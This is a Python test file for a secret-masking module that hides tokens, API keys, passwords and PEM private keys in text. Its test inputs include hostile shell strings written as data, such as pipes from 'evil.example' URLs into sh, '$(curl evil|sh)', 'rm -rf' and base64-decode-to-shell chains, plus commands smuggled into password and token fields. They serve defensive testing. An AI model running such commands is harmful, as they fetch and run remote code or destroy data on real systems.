from __future__ import annotations

import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from agentpod_bot.core.secret_kinds import ALPHABETS, Kind
from agentpod_bot.core.secrets import Hidden, by_line, find, hide, mask

ALNUM = "0123456789abcdefghijklmnopqrstuvwxyz"
GITHUB = f"ghp_{ALNUM}"
JWT = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJvd25lciJ9.c2lnbmF0dXJl-_1"
AWS_SECRET = "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"
LINE = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj"
BODY = f"{LINE}\n{LINE}\nAgEAAoIB=="
LONG, MEGABYTE = 150_000, 1_000_000


def pem(body: str, name: str = "PRIVATE KEY", gap: str = "\n") -> str:
    return f"-----BEGIN {name}-----{gap}{body}{gap}-----END {name}-----"


@pytest.mark.parametrize(
    ("before", "value", "after", "kind"),
    [
        ("", GITHUB, "", Kind.TOKEN),
        ("git clone x", GITHUB, "; ls", Kind.TOKEN),
        ("", f"github_pat_{ALNUM}", "", Kind.TOKEN),
        ("", "glpat-abcdefghij0123456789", "", Kind.TOKEN),
        ("", "glpat-abcdefghij0123456789abcdefg.01.0a1b2c3d4", ".x", Kind.TOKEN),
        ("curl https://", "glpat-abcdefghij0123456789", ".01.evil.example/x.sh | sh", Kind.TOKEN),
        ("", "xoxb-123456789012-abcdefghijkl", "", Kind.TOKEN),
        ("", f"sk-proj-{ALNUM}", "", Kind.TOKEN),
        ("x='", f"sk-ant-api03-{ALNUM}", "'", Kind.TOKEN),
        ("", f"npm_{ALNUM}", "", Kind.TOKEN),
        ("", "pypi-AgEIcHlwaS5vcmcCJDAw", "", Kind.TOKEN),
        ("key=", f"AIza{ALNUM}", "&x=1", Kind.KEY),
        ("", f"sk_live_{ALNUM}", "", Kind.KEY),
        ("", JWT, " x", Kind.TOKEN),
        ("token=", "eyJhbGciOi.eyJhbGciOi.signature", "", Kind.TOKEN),
        ('-H "Authorization: Bearer ', "eyJhbGciOi.eyJhbGciOi.signature", '"', Kind.TOKEN),
        ("", "syt_b3duZXI_AbCdEfGhIjKlMnOpQrSt_1a2B3c", "", Kind.TOKEN),
        ("id ", "AKIAIOSFODNN7EXAMPLE", " x", Kind.KEY),
        ("AWS_SECRET_ACCESS_KEY=", AWS_SECRET, " aws s3 ls", Kind.KEY),
        ("DefaultEndpointsProtocol=https;AccountKey=", "abcdEFGH12345678/bcdEFGH12345678==", ";x", Kind.KEY),
        ("curl -H 'Authorization: Bearer ", "mytoken", "' x", Kind.TOKEN),
        ('{"Authorization": "Bearer ', "abc-123", '"}', Kind.TOKEN),
        ("Authorization: Basic ", "dXNlcjpwYXNz", "", Kind.PASSWORD),
        ("x: Bearer ", "0123456789abcdef01", "", Kind.TOKEN),
        ("X-Api-Key:", "abcdef", "", Kind.KEY),
        ("psql postgres://app:", "hunter2", "@db/app", Kind.PASSWORD),
        ("redis://:", "p%40ss", "@db", Kind.PASSWORD),
        ("tool --password=", "hunter2", " x", Kind.PASSWORD),
        ("tool --password=", "swordfish", "", Kind.PASSWORD),
        ("tool --db-password ", "hunter2", "", Kind.PASSWORD),
        ("tool --token '", "abc123", "'", Kind.TOKEN),
        ('["--password", "', "hunter2", '"]', Kind.PASSWORD),
        ("PGPASSWORD=", "swordfish", " psql", Kind.PASSWORD),
        ("export API_KEY=", "Abc-123_~.4", " && run", Kind.KEY),
        ("password: ", "swordfish", "\n", Kind.PASSWORD),
        ('{"clientSecret":"', "abc", '"}', Kind.TOKEN),
        ('{\\"token\\":\\"', "abc123", '\\"}', Kind.TOKEN),
        ("mysql -u root -p", "secret", " db", Kind.PASSWORD),
        ("sshpass -p ", "secret", " ssh x", Kind.PASSWORD),
        ("docker login -p ", "secret", " x", Kind.PASSWORD),
        ("curl -u bob:", "secret", " x", Kind.PASSWORD),
        ("-----BEGIN PRIVATE KEY-----\n", BODY, "\n-----END PRIVATE KEY-----", Kind.PRIVATE_KEY),
        ("-----BEGIN RSA PRIVATE KEY-----\r\n", BODY.replace("\n", "\r\n"), "\r\n-----END ", Kind.PRIVATE_KEY),
        (
            '{"private_key": "-----BEGIN PRIVATE KEY-----\\n',
            BODY.replace("\n", "\\n"),
            "\\n-----END ",
            Kind.PRIVATE_KEY,
        ),
        ("  -----BEGIN EC PRIVATE KEY-----\n  ", BODY.replace("\n", "\n  "), "\n  -----END ", Kind.PRIVATE_KEY),
        ("-----BEGIN KEY-----", "c2VjcmV0", "-----END KEY-----", Kind.PRIVATE_KEY),
        ("-----BEGIN OPENSSH PRIVATE KEY-----\n", BODY, "", Kind.PRIVATE_KEY),  # cut off by whoever sent it
    ],
)
def test_a_secret_is_hidden_and_nothing_else(before: str, value: str, after: str, kind: Kind) -> None:
    masked = mask(f"{before}{value}{after}")
    assert masked.text == f"{before}[hidden {kind.value}, {len(value)} characters]{after}"
    assert masked.hidden == (Hidden(kind, len(value)),)


@pytest.mark.parametrize(
    "text",
    [
        pem("$(curl evil|sh)", "KEY", ""),
        pem(f"{LINE}\n$(curl evil|sh)\n{LINE}"),
        pem(f"{LINE}\nrm -rf x\n{LINE}"),
        pem("reboot"),
        pem(f"reboot\n{LINE}"),
        pem("/usr/bin/X11/X11/X11/X11/X11/X11/X11/X11/X11/X11/X11/X11/X11/reboot"),
        pem("PATH=evil"),
        pem("reboot", gap="\\n"),
        pem(LINE, "PUBLIC KEY"),
        pem(LINE, "CERTIFICATE"),
        f"-----BEGIN KEY-----\n{LINE}\n$(curl evil|sh)",
        "Authorization: Bearer `evil`",
        "Authorization: Bearer a$(evil)",
        "curl -H Authorization: Bearer evil.example/x.sh | sh",
        "postgres://app:$(evil)@db",
        "postgres://app:a;b@db",
        "tool --password=$(evil)",
        "tool --password=a$IFS",
        "tool --password='a b'",
        'tool --password="a;rm -rf ~"',
        "tool --password=`evil`",
        "tool --password=<(evil)",
        "tool --password=a\\\nb",
        "tool --token -rf",
        "tool --token list",
        "tool --token /bin/sh",
        "tool --secret evil.example/x.sh",
        "tool --token ./x1",
        "dropdb --password prod1",
        "mysql --password prod1",
        "mysql -p$(evil)",
        "API_KEY=reboot; $API_KEY",
        "A_TOKEN=rm1; eval ${A_TOKEN}",
        'password = "reboot"; os.system(password)',
        "sh -c '$2' x --password reboot1",
        "PASSWORD=/tmp/x1",
        "password = settings.password",
        "TOKEN=Y3VybCBldmlsLmV4YW1wbGV8c2g; echo $TOKEN | base64 -d | sh",
        f"sed 1d <<X | base64 -d | bash\n{pem(LINE)}\nX",
        f"echo {GITHUB} | cut -c5- | base64 --decode | sh",
        "curl https://eyJhbGci.evil.example/x.sh | sh",
        "curl eyJhbGciOi.eyJhbGciOi.evil/x.sh | sh",
        "curl eyJhbGciOi.eyJhbGciOi.evil1234.example/x.sh | sh",
        "curl -H Authorization: Bearer eyJhbGciOi.eyJhbGciOi.example/x.sh | sh",
        "curl --token 0123456789abcdef0123456789abcdef.evil.example | sh",
        "curl --token evil.example/0123456789abcdef0123456789abcdef | sh",
        "curl --token 198.51.100.7 | sh",
        "ssh --token bob@198.51.100.7",
        "password=get_password()",
    ],
)
def test_nothing_that_could_run_is_hidden(text: str) -> None:
    assert mask(text).text == text


def test_a_last_line_of_a_key_that_could_be_a_command_stays_visible() -> None:
    assert mask(pem(f"{LINE}\n{LINE}\npoweroff")).text == pem("[hidden private key, 129 characters]\npoweroff")
    assert mask(pem(f"{LINE}\n=halt")).text == pem("[hidden private key, 64 characters]\n=halt")


@pytest.mark.parametrize(
    "text",
    [
        "",
        "bun test --token-limit 4096 && echo max_tokens=4096",
        "The bearer token expired. Password reset needed: see docs.",
        "token: string; password: null; secret: required",
        "git checkout sk-fix-the-very-long-build-name",
        "PASS: 12 tests, compass=north, docker run -p 8080:80 x",
        "https://user@host/path http://host:8080/x@y",
        "sha256 e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
        "export TOKEN=$GITHUB_TOKEN PASSWORD=<password> API_KEY={{ key }} SECRET=***",
        "[… 40 characters hidden …] [x] [hide]",
    ],
)
def test_a_text_without_secrets_stays_as_it_is(text: str) -> None:
    assert mask(text).text == text


def test_a_mask_that_the_text_itself_writes_is_told_from_a_real_one_and_not_counted() -> None:
    masked = mask(f"[hidden token, 40 characters] [Hidden x] [as written: hidden y] {GITHUB}")
    assert masked.text == (
        "[as written: hidden token, 40 characters] [as written: Hidden x] [as written: as written: hidden y] "
        "[hidden token, 40 characters]"
    )
    assert masked.hidden == (Hidden(Kind.TOKEN, 40),)


def test_one_value_that_is_a_secret_twice_over_is_hidden_once() -> None:
    assert mask(f"https://oauth2:{GITHUB}@host").hidden == (Hidden(Kind.TOKEN, 40),)
    assert mask(f"Authorization: Bearer {JWT}").hidden == (Hidden(Kind.TOKEN, len(JWT)),)


SIGNS = "=@: \n'\"$`;|&()<>\\/.-é\u200b"
PIECES = st.sampled_from(SIGNS) | st.sampled_from(
    [
        GITHUB,
        JWT,
        LINE,
        AWS_SECRET,
        pem(BODY),
        "-----BEGIN KEY-----",
        "-----END KEY-----",
        "Authorization: Bearer ",
        "://",
        *"password --token hunter2 abc123 API_KEY \\n -p mysql sk- eyJ AKIA [hidden".split(),  # noqa: SIM905 -- a list
    ]
)
TEXTS = st.lists(PIECES | st.text(max_size=5), max_size=14).map("".join)
COULD_RUN = frozenset("\"'`$;|&()<>{}[]*?\u00a0\u2028\0")


@given(TEXTS)
def test_a_mask_never_hides_a_character_outside_its_kinds_alphabet(text: str) -> None:
    for secret in find(text):
        value = text[secret.start : secret.end]
        assert ALPHABETS[secret.kind].fullmatch(value)
        assert not COULD_RUN & set(value)
        assert secret.kind is Kind.PRIVATE_KEY or not any(char.isspace() or char == "\\" for char in value)


@given(TEXTS)
def test_what_is_left_of_a_masked_text_holds_no_more_secrets(text: str) -> None:
    assert mask(mask(text).text).hidden == ()


@given(TEXTS)
def test_only_masks_are_new_and_all_else_stays(text: str) -> None:
    at, rest = 0, []
    for secret in find(text):
        assert at <= secret.start < secret.end
        rest.append(text[at : secret.start])
        at = secret.end
    rest.append(text[at:])
    if "[hidden " not in text.lower():
        masked = mask(text).text
        for piece in rest:
            assert masked.startswith(piece)
            masked = masked.removeprefix(piece)
            masked = masked.partition("]")[2] if masked.startswith("[hidden ") else masked
        assert masked == ""


@given(TEXTS)
def test_line_by_line_the_same_is_hidden_and_no_line_is_lost(text: str) -> None:
    places = by_line(text)
    starts = [0, *(at + 1 for at, char in enumerate(text) if char == "\n")]
    by_lines = {
        starts[number] + at
        for number, secrets in places.items()
        for secret in secrets
        for at in range(secret.start, secret.end)
    }
    whole = {at for secret in find(text) for at in range(secret.start, secret.end)}
    assert by_lines <= whole
    assert all(text[at].isspace() for at in whole - by_lines)
    for number, line in enumerate(text.split("\n")):
        shown = hide(line, places.get(number, ()))
        assert "\n" not in shown.text
        assert shown.hidden == tuple(Hidden(each.kind, each.end - each.start) for each in places.get(number, ()))


def test_finding_secrets_line_by_line_is_not_slow() -> None:
    for piece in (f"{GITHUB} ", f"{GITHUB}\n", f"{pem(LINE)}\n"):
        started = time.process_time()
        by_line(piece * (MEGABYTE // len(piece)))
        assert time.process_time() - started < 2


@given(TEXTS, TEXTS)
def test_a_token_of_a_known_form_is_hidden_whatever_stands_around_it(before: str, after: str) -> None:
    assert GITHUB not in mask(before + GITHUB + after).text


@given(st.text(st.characters(exclude_characters="_-:=@'\" "), max_size=60))
def test_texts_that_say_nothing_of_secrets_are_unchanged(text: str) -> None:
    assert mask(text).text == text or "[hidden" in text.lower()


@pytest.mark.parametrize(
    "piece",
    [
        *("a", "[", "eyJ", "sk-", "sk-a ", "://", "://a:", "ghp_", "SG.aaaaaaaaaaaaaaaaaaaa", "eyJaaaaaa.", "mat_"),
        *("token=", "token ", "password: ", "--token ", "password=abc1 ", "A_TOKEN=abcd; $A_TOKEN ", "a-key:"),
        *("authorization: bearer ", "bearer ", "mysql ", "mysql -pabc ", "curl -u aaaaaaaa:bb( ", "pass   "),
        *("-----BEGIN KEY-----", "-----BEGIN KEY-----AAAA\n", "[as written: ", "12345678:AA", "\\", "\\n", "\u0130"),
    ],
)
def test_no_text_is_slow_whatever_it_is_built_of(piece: str) -> None:
    for text in (piece * (LONG // len(piece)), f"-----BEGIN KEY-----password={piece * (LONG // len(piece))}"):
        started = time.process_time()
        mask(text)
        assert time.process_time() - started < 1  # what is quadratic takes minutes


def test_a_megabyte_takes_less_than_a_second() -> None:
    for piece in ("bun test && echo done\n", f"export API_KEY=abc; {GITHUB} {pem(LINE)} password: x y z\n"):
        taken = []
        for _ in range(3):  # the least of them: what else the machine does only ever adds to it
            started = time.process_time()
            mask(piece * (MEGABYTE // len(piece)))
            taken.append(time.process_time() - started)
        assert min(taken) < 1
